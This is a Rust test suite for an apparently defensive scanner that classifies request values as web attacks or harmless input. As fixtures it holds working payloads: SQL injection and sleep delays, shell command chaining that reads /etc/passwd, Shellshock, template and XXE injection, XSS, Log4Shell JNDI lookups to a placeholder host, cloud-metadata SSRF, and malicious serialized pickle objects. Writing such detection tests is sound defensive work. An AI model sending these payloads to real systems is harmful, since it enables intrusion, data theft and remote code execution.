//! Payloads that are told, and ordinary values that are not.

use super::*;

fn names(place: ParamPlace, name: &str, value: &str) -> Vec<&'static str> {
    let hits = Scanner::default().value(place, name.as_bytes(), value.as_bytes());
    each(hits).filter_map(|number| Some(rules().get(number)?.name)).collect()
}

#[test]
fn every_pattern_of_the_file_compiles_and_every_rule_has_a_bit() {
    assert!(rules().len() <= Hits::BITS as usize);
    for rule in rules().iter().filter(|rule| !rule.pattern.starts_with('@')) {
        assert!(compile(&[rule.pattern]).is_some(), "{}", rule.name);
    }
    let ready = Ready::new();
    assert_eq!(ready.requests.len(), ready.of_requests.len());
    assert_eq!(ready.answers.len(), ready.of_answers.len());
    assert!([ready.jndi, ready.metadata, ready.internal, ready.operator, ready.xml].iter().all(|bits| *bits != 0));
}

#[test]
fn payloads_are_told_by_the_rule_that_names_them() {
    for (rule, value) in [
        ("sql-union", "1' UNION ALL SELECT NULL,NULL-- -"),
        ("sql-union", "1/**/union/**/select/**/1,2,3"),
        ("sql-union", "-1%2527 union /*!50000select*/ 1,user()"),
        ("sql-tautology", "1' or 1=1 -- "),
        ("sql-number-select", "1) as x where 2160=2160 and sleep(5)#"),
        ("sql-delay", "1)) rlike sleep(5)--"),
        ("sql-text-tautology", "x' or 'a'='a"),
        ("sql-comment-end", "admin'--"),
        ("sql-delay", "1' and sleep(5)#"),
        ("sql-delay", "1; waitfor delay '0:0:5'--"),
        ("command-chain", "8.8.8.8; cat /etc/passwd"),
        ("command-bare", "x|whoami"),
        ("command-shell", "() { :;}; /bin/id"),
        ("template-arithmetic", "{{7*7}}"),
        ("template-object", "{{''.__class__.__mro__}}"),
        ("path-climb", "..%252f..%252fetc/hosts"),
        ("path-climb", "../../x"),
        ("path-file", "/etc/passwd"),
        ("xml-entity", "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/hosts\">]>"),
        ("script-tag", "<script>alert(1)</script>"),
        ("script-handler", "&lt;img src=x onerror=alert(1)&gt;"),
        ("jndi-lookup", "${jndi:ldap://192.0.2.1/a}"),
        ("jndi-lookup", "${${lower:J}nd${::-i}:${env:X:-l}dap://192.0.2.1/a}"),
        ("jndi-lookup", "$%7B${upper:j}ndi:rmi://192.0.2.1"),
        ("ssrf-metadata", "http://169.254.169.254/latest/meta-data/"),
        ("ssrf-metadata", "http://0xa9fea9fe/"),
        ("ssrf-internal", "http://127.1:8080/admin"),
        ("ssrf-internal", "http://[::1]/"),
        ("ssrf-scheme", "gopher://192.0.2.1:70/_x"),
        ("line-break-header", "x\r\nSet-Cookie: a=b"),
        ("ldap-filter", "*)(uid=*))(|(uid=*"),
        ("object-php", "O:8:\"Evil\\Any\":1:{s:1:\"a\";}"),
        ("nosql-where", "' || this.a || '"),
        ("nosql-sleep", "sleep(2000)"),
        ("line-break-log", "4711\nCHECKOUT: user ann"),
        ("object-pickle", "gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=="),
        ("object-pickle", "gAJjX19idWlsdGluX18KZXZhbApxAFgBAAAAMXEBhXECUnEDLg=="),
    ] {
        assert!(names(ParamPlace::Query, "q", value).contains(&rule), "{rule}: {value}");
    }
    assert_eq!(
        names(ParamPlace::Cookie, "cookie", "a=b; session=gAJjX19idWlsdGluX18KZXZhbApxAFgBAAAAMXEBhXECUnEDLg=="),
        ["object-pickle"]
    );
    assert_eq!(names(ParamPlace::Form, "user[$ne]", "x"), ["nosql-operator"]);
    assert_eq!(names(ParamPlace::Body, "/filter/$where", "x"), ["nosql-operator"]);
    assert_eq!(names(ParamPlace::Argument, "/host", "127.0.0.1"), ["ssrf-internal"]);
}

#[test]
fn ordinary_values_are_no_payloads() {
    for value in [
        "Conan O'Brien",
        "call me back\nNOTE: after six",
        "4711\nok",
        "gASVIwAAAAAAAAB9lCiMBHVzZXKUjANhbm6UjARjYXJ0lF2UKEsBSwJLA2V1Lg==",
        "session=gASVKQAAAAAAAACMC2NvbGxlY3Rpb25zlIwLT3JkZXJlZERpY3SUk5QpUpSMAWGUSwFzLg==; gA=1",
        "1 = 1 or so",
        "please select one of the union members",
        "Select the best from the list; drop me a line",
        "R&D and Sales",
        "it's 5 > 3 and that's \"fine\"",
        "rock'n'roll -- live",
        "<b>bold</b> text & more",
        "https://hooks.example.com/services/T0/B0?x=1&y=2",
        "someone+tag@example.org",
        "{\"a\":[1,2,{\"b\":\"c\"}]}",
        "# Title\n\n* one\n* two `code`\n\n[link](https://example.org/a_(b))",
        "def f(x):\n    return x * 7 if x and y else (1)",
        "10.0.0.1",
        "${name}, hello",
        "C++ & Java; 50% off",
        "a/b/../c",
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)",
    ] {
        let told = names(ParamPlace::Body, "/text", value);
        let strong = |name: &&&str| rules().iter().any(|rule| rule.name == **name && rule.weight > Weight::Weak);
        assert_eq!(told.iter().filter(strong).count(), 0, "{value}: {told:?}");
    }
    assert!(names(ParamPlace::Header, "referer", "http://localhost:3000/").is_empty());
}

#[test]
fn an_answer_proves_only_what_was_tried() {
    let mut scanner = Scanner::default();
    let climb = scanner.value(ParamPlace::Query, b"f", b"../../etc/passwd");
    assert_ne!(scanner.proofs(climb, b"root:x:0:0:root:/root:/bin/sh", false), 0);
    assert_eq!(scanner.proofs(climb, b"near \"x\": syntax error", false), 0);
    assert_eq!(scanner.proofs(climb, b"no such file", false), 0);
}

#[test]
fn a_page_with_the_script_and_an_answer_with_the_result_prove_it() {
    let mut scanner = Scanner::default();
    let script = scanner.value(ParamPlace::Query, b"q", b"%3Cscript%3Ealert(1)%3C/script%3E");
    let page = b"<p>nothing for <script>alert(1)</script></p>";
    assert_ne!(scanner.proofs(script, page, true), 0);
    assert_eq!(scanner.proofs(script, page, false), 0, "JSON is no page");
    assert_eq!(scanner.proofs(script, b"<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>", true), 0);
    scanner.begin();
    assert_eq!(scanner.proofs(script, page, true), 0, "of another transaction");
    let sum = scanner.value(ParamPlace::Form, b"name", b"${1337*191}");
    assert_ne!(scanner.proofs(sum, b"hello 255367", false), 0);
    assert_eq!(scanner.delay(), 0);
    scanner.value(ParamPlace::Form, b"name", b"1' and sleep(5)#");
    assert_eq!(scanner.delay(), 5_000);
}

#[test]
fn a_harmless_object_does_not_hide_the_one_behind_it() {
    let value = "a=gAJx; session=gAJjX19idWlsdGluX18KZXZhbApxAFgBAAAAMXEBhXECUnEDLg==";
    assert_eq!(names(ParamPlace::Cookie, "cookie", value), ["object-pickle"]);
}
